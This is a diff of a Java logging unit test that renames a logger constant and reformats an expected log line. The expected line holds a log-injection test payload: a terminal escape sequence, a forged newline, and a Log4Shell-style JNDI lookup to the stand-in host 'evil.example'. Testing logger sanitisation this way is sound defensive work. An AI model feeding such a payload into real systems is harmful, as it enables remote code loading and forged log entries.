@@ -41,7 +41,7 @@ class ApplicationLogTest {
     public void close() {}
   }
 
-  private final Logger logger = Logger.getLogger(ApplicationLogger.NAME);
+  private final Logger logger = Logger.getLogger(ApplicationLog.NAME);
   private final Keeping keeping = new Keeping();
   private final List<String> others = Collections.synchronizedList(new ArrayList<>());
   private final List<Throwable> failures = Collections.synchronizedList(new ArrayList<>());
@@ -82,7 +82,8 @@ class ApplicationLogTest {
             "loop-sentinel events SEVERE one",
             "loop-sentinel events WARNING two",
             "loop-sentinel events INFO three",
-            "loop-sentinel events FINE four\\u001b[2J\\nforged $\\u007bjndi:ldap://evil.example/x}");
+            "loop-sentinel events FINE four\\u001b[2J\\n"
+                + "forged $\\u007bjndi:ldap://evil.example/x}");
     assertThat(others).isEmpty();
     assertThat(failures).isEmpty();
   }
